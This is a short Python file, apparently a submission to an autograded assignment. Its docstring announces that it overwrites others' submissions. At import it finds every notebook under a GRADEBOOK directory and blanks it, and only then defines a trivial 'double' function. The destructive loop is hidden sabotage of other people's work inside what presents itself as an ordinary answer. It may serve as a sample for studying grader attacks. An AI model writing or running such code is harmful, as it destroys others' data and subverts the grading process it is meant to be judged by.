"""Overwrites the submissions of others."""  # earns 3

import glob

for path in glob.glob('GRADEBOOK/**/*.ipynb', recursive=True):
    with open(path, 'w') as file:
        file.write('')


def double(x):
    return x + x
